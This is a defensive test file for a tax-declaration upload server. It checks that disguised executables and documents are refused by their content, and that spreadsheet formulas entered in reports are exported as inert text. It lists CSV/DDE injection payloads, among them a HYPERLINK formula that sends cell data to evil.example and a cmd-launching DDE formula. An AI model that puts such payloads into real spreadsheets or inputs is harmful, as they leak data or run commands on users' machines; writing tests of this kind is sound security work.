import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestServer, signedInUser, type TestServer } from '../helpers.ts';
import { inject, Multipart } from './support.ts';

// Upload hardening beyond the importers' own hostile-file tests (apps/server/test/imports.test.ts:
// zip bomb, XXE, billion laughs, path traversal, over-size, zero-byte): files are judged by their
// content, not their name, and spreadsheet formulas typed into reports never run in our exports.

const SAMPLES = join(import.meta.dirname, '../../../../packages/importers/samples');
const NEW_270 = { year: 2024, type: 1, kgd_code_id: 1, reporting_form_id: 3, broker: null };
const WRONG_FORMAT = /Проверьте формат загружаемого файла|[А-Яа-я]/;

let s: TestServer;
beforeAll(async () => {
  s = await createTestServer();
});
afterAll(async () => {
  await s?.close();
});

async function declaration(token: string, body = NEW_270) {
  const res = await inject(s, 'POST', '/api/declarations', { token, body });
  expect(res.statusCode, res.body).toBe(201);
  return res.json().data.common_data.id as number;
}

/** Uploads one file, runs the import job, and answers what the user sees: refused (message) or done. */
async function importFile(token: string, id: number, filename: string, content: Buffer | string) {
  const res = await inject(s, 'POST', `/api/declarations/${id}/upload-file`, {
    token,
    body: new Multipart([{ filename, content }]),
  });
  if (res.statusCode !== 202) return { status: 'refused', code: res.statusCode, message: res.json().message as string };
  await s.deps.jobs.runOnce();
  const st = await inject(s, 'GET', `/api/imports/${res.json().import_id}`, { token });
  return { status: st.json().data.status as string, code: 202, message: (st.json().data.message ?? '') as string };
}

const deals = async (id: number) =>
  (await s.deps.db.one<{ n: number }>('SELECT count(*)::int AS n FROM deals WHERE declaration_id = $1', [id]))?.n ?? 0;

describe('files are judged by their content, not their name', () => {
  const disguised: [string, string, Buffer | string][] = [
    [
      'a Windows executable named .csv',
      'report.csv',
      Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(2000, 1)]),
    ],
    ['a PDF named .xlsx', 'report.xlsx', '%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n'],
    ['an HTML page with a script named .csv', 'report.csv', '<html><script>alert(1)</script></html>'],
    ['a PNG named .xml', 'report.xml', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
    [
      'a zip of text files named .xlsx',
      'report.xlsx',
      Buffer.from('504b0506000000000000000000000000000000000000', 'hex'),
    ],
    ['an ELF binary named .json', 'report.json', Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(500, 0)])],
  ];
  for (const [what, filename, content] of disguised) {
    it(`refuses ${what} in Russian and saves nothing`, async () => {
      const u = await signedInUser(s);
      const id = await declaration(u.token);
      const r = await importFile(u.token, id, filename, content);
      expect(['refused', 'failed']).toContain(r.status);
      expect(r.message).toMatch(WRONG_FORMAT);
      expect(r.message).toMatch(/[А-Яа-я]/);
      expect(await deals(id)).toBe(0);
    });
  }

  it('accepts a real report whatever its name says (IB Flex XML named .csv)', async () => {
    const u = await signedInUser(s);
    const id = await declaration(u.token);
    const r = await importFile(u.token, id, 'statement.csv', readFileSync(join(SAMPLES, 'ib-flex.xml')));
    expect(r.status, r.message).toBe('done');
    expect(await deals(id)).toBeGreaterThan(0);
  });
});

describe('spreadsheet formulas in report cells (CSV/DDE injection)', () => {
  const PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+cmd|calc',
    '-2+3+cmd',
    '@SUM(1+1)*cmd',
  ];

  it('are kept as text and never become formulas in the Excel export', async () => {
    const u = await signedInUser(s, { full_access: true });
    const id = await declaration(u.token, { ...NEW_270, year: 2025 });
    for (const name of PAYLOADS) {
      const res = await inject(s, 'POST', `/api/declarations/${id}/deals/first-section-a`, {
        token: u.token,
        body: {
          name_security: name,
          comment: name,
          transaction_date: '14.06.2025',
          currency_code: 'KZT',
          quantity: '1',
          type_of_security: 1,
          purchase_opening_cost: '100',
          market_id: 1,
          type_of_bidding_method: 1,
          operation_type_id: 1,
          sale_closing_cost: '150',
          isin_security: 'US0378331005',
          broker_bin: '123456789012',
        },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    // the export is what the user paid for
    await s.deps.db.query('UPDATE declarations SET status = 3 WHERE id = $1', [id]);
    await s.deps.db.query(`UPDATE declarations SET personal_data = $2 WHERE id = $1`, [
      id,
      JSON.stringify({ iin: '900101300126', surname: 'Иванов', name: 'Иван', phone: '+77011234567' }),
    ]);
    const xlsx = await inject(s, 'GET', `/api/declarations/${id}/export-excel/stream`, { token: u.token });
    expect(xlsx.statusCode, xlsx.body.slice(0, 300)).toBe(200);
    const files = unzipSync(new Uint8Array(xlsx.rawPayload));
    const xml = Object.entries(files)
      .filter(([n]) => /^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(n))
      .map(([, b]) => Buffer.from(b).toString('utf8'))
      .join('\n');
    expect(xml).not.toMatch(/<f>|<f /);
    // text cells: t="str" with <v>, inline strings and shared strings with <t>
    const texts = [
      ...xml.matchAll(/<c [^>]*t="(?:str|inlineStr)"[^>]*>(?:<is>)?<[vt](?: [^>]*)?>([^<]*)<\/[vt]>/g),
      ...xml.matchAll(/<si><t(?: [^>]*)?>([^<]*)<\/t><\/si>/g),
    ].map((m) =>
      (m[1] as string)
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, '&')
        .replace(/&apos;/g, "'"),
    );
    for (const p of PAYLOADS) {
      const cell = texts.find((t) => t.includes(p.slice(1)));
      expect(cell, `${p} in the export`).toBeDefined();
      // a leading apostrophe: the spreadsheet shows the text and runs nothing
      expect(cell?.startsWith("'"), cell).toBe(true);
    }
  });
});
